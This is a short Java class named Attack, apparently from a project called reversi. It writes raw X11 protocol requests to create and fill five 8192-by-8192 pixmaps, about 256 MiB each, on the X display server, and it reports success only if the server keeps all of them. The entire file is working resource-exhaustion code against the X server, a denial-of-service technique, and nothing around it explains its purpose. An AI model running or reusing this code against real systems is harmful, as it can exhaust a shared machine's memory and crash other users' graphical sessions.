package reversi;

import java.io.IOException;

class Attack {
    private static final int SIDE = 8192;

    static String attack(IView view) throws Exception {
        Display display = new Display();
        int kept = 0;
        for (int picture = 1; picture <= 5; picture++) {
            int pixmap = display.base + 2 * picture;
            int context = pixmap + 1;
            // CreatePixmap, CreateGC with the colour white, and PolyFillRectangle: only what is written takes memory.
            display.ask(53 << 24 | 24 << 16 | 4, pixmap, display.root, SIDE << 16 | SIDE);
            display.ask(55 << 24 | 5, context, pixmap, 1 << 2, 0xFFFFFF);
            display.ask(70 << 24 | 5, pixmap, context, 0, SIDE << 16 | SIDE);
            display.ask(43 << 24 | 1);
            boolean refused = false;
            for (byte[] answer = display.answer(); answer[0] != 1; answer = display.answer()) {
                refused |= answer[0] == 0;
            }
            kept += refused ? 0 : 1;
        }
        return kept < 5 ? null : kept + " pictures of 256 MiB";
    }
}
